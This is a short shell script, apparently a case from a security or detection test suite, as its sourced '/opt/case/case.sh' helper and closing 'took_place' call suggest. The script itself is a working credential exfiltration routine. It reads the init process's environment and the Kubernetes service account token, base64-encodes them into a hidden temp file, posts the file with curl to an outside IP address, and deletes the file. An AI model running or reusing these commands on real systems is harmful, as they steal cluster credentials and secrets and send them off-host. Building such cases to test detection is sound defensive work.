#!/bin/sh
. /opt/case/case.sh

sh -c 'cat /proc/1/environ /run/secrets/kubernetes.io/serviceaccount/token | base64 -w0 >/tmp/.o'
curl -s -o /dev/null --data-binary @/tmp/.o http://203.0.113.10/c
rm /tmp/.o
took_place
